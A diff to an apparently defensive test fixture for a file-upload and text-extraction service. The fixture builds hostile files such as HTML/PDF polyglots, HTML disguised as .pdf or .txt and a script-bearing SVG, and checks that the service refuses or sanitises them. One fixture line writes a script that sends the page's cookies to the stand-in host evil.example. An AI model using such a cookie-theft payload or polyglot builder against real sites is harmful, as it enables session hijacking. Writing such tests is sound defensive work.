@@ -237,6 +237,12 @@ def build_html_pdf_polyglot(target: Path, scratch: Path) -> None:
     )
 
 
+def build_page_with_pdf_inside(target: Path, scratch: Path) -> None:
+    """The polyglot under an honest .html name (other bytes, so the two never count as duplicates)."""
+    build_html_pdf_polyglot(target, scratch)
+    target.write_bytes(target.read_bytes() + b"<!-- als Seite gespeichert -->\n")
+
+
 def build_html_fragment(target: Path, scratch: Path) -> None:
     """A bare script, as a browser would still render it as HTML."""
     target.write_text("<script>document.location='https://evil.example/?'+document.cookie</script>\n",
@@ -664,11 +670,18 @@ FILES: tuple[HostileFile, ...] = (
                 message="passwortgeschützt", extraction_status="encrypted"),
     HostileFile("encrypted-xlsx", "gehaelter.xlsx", build_encrypted_xlsx, refused=False,
                 message="passwortgeschützt", extraction_status="encrypted"),
-    HostileFile("html-as-pdf", "portal.pdf", build_html, refused=True, message="HTML", http_status=415),
+    # Web pages are read for their text under their own name only; under another one they are
+    # what a polyglot looks like.
+    HostileFile("html-as-pdf", "portal.pdf", build_html, refused=True, message="HTML-Seite, heißt aber „.pdf“",
+                http_status=415),
     HostileFile("html-pdf-polyglot", "jahresbericht.pdf", build_html_pdf_polyglot, refused=True,
-                message="Das Dateiformat HTML wird nicht unterstützt", http_status=415),
+                message="Die Datei ist eine HTML-Seite, heißt aber „.pdf“", http_status=415),
     HostileFile("html-fragment-as-txt", "notiz.txt", build_html_fragment, refused=True,
-                message="Das Dateiformat HTML wird nicht unterstützt", http_status=415),
+                message="Die Datei ist eine HTML-Seite, heißt aber „.txt“", http_status=415),
+    # As a page, the polyglot is stored as what it is (and downloaded as an attachment): its
+    # visible text only, never the script, never the PDF inside.
+    HostileFile("page-with-pdf-inside", "jahresbericht.html", build_page_with_pdf_inside, refused=False,
+                message="Text erfolgreich extrahiert", extraction_status="ok"),
     HostileFile("svg-with-script", "wappen.svg", build_svg_with_script, refused=True,
                 message="Das Dateiformat SVG (Bild) wird nicht unterstützt", http_status=415),
     HostileFile("pdf-after-junk", "haushalt.pdf", build_pdf_after_junk, refused=True,
